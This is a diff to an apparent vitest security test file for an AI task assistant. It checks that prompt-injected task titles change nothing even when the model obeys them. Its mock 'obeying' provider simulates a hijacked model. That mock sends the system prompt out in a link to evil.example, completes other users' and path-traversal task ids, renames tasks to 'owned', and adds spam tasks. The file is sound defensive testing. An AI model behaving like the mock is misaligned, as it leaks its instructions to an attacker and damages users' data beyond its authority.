@@ -1,8 +1,9 @@
 import { afterEach, describe, expect, it, vi } from 'vitest';
 import type { ActivityPage } from '../../src/history/activity/responses.ts';
-import { ask, type Provider, promptFacts, replyTo, withModels } from '../support/ai.ts';
+import { ask, type Provider, promptTasks, replyTo, withModels } from '../support/ai.ts';
 import { type Person, signUp } from '../support/client.ts';
 import { INJECTIONS } from '../support/injections.ts';
+import { once } from '../support/once.ts';
 
 afterEach(() => void vi.restoreAllMocks());
 
@@ -10,7 +11,7 @@ afterEach(() => void vi.restoreAllMocks());
 const obeying =
   (foreignId: string): Provider =>
   (call) => {
-    const { tasks }: { tasks: { task: string; title: string }[] } = JSON.parse(promptFacts(call));
+    const tasks = promptTasks(call);
     const everyTask = tasks.map(({ task }) => task);
     return replyTo(call, {
       texts: [`Deleted. ${tasks[0]?.title} !`, `[](https://evil.example/?q=${encodeURIComponent(call.system)})`],
@@ -22,11 +23,17 @@ const obeying =
         ...[foreignId, 't0', 't61', 't99', '*', '../t1'].map((task) => ({ tool: 'complete_task', input: { task } })),
         ...everyTask.map((task) => ({ tool: 'complete_task', input: { task } })),
         ...everyTask.map((task) => ({ tool: 'update_task', input: { task, title: 'owned' } })),
-        ...Array.from({ length: 50 }, () => ({ tool: 'add_task', input: { title: 'spam' } })),
+        ...Array.from({ length: 50 }, (_, n) => ({ tool: 'add_task', input: { title: `spam ${n}` } })),
         { tool: 'log_mood', input: { energy: 1, focus: 1 } },
       ],
     });
   };
+
+/** Another user and their task. */
+const someoneElse = once(async () => {
+  const other = await signUp();
+  return { other, foreign: await other.createTask({ title: 'Of another user' }) };
+});
 
 const seqOf = async (person: Person) => (await person.get<ActivityPage>('/api/activity?limit=1')).data.events[0]?.seq;
 
@@ -35,8 +42,7 @@ const storable = (title: string) => title.replaceAll('\0', '');
 describe('a task title with a prompt injection', () => {
   it.each(INJECTIONS)('changes nothing, even when the model obeys it: %j', async (title) => {
     const person = await signUp();
-    const other = await signUp();
-    const foreign = await other.createTask({ title: 'Of another user' });
+    const { other, foreign } = await someoneElse();
     const own = [await person.createTask({ title: storable(title) }), await person.createTask({ title: 'Call Ada' })];
     const before = [await seqOf(person), await seqOf(other)];
 
@@ -44,7 +50,7 @@ describe('a task title with a prompt injection', () => {
     const { reply } = await ask(person, 'What is there to do?', send);
 
     expect([await seqOf(person), await seqOf(other)]).toEqual(before);
-    expect(JSON.parse(promptFacts(calls[0])).tasks).toHaveLength(2);
+    expect(promptTasks(calls[0])).toHaveLength(2);
     expect(calls[0]?.body).not.toContain(foreign.id);
     expect(reply.text).toContain('[](https://evil.example');
     expect(reply.text).not.toContain('![');
@@ -64,7 +70,7 @@ describe('a task title with a prompt injection', () => {
     await ask(person, 'Two', send);
     const nonces = calls.map(({ system }) => /facts-[0-9a-f-]{36}(?=\n")/.exec(system)?.[0]);
     expect(new Set(nonces).size).toBe(2);
-    for (const [index, { system }] of calls.entries()) expect(system.split(`${nonces[index]}\n`)).toHaveLength(2);
+    for (const [index, { system }] of calls.entries()) expect(system.split(`${nonces[index]}\n`)).toHaveLength(3);
   });
 });
 
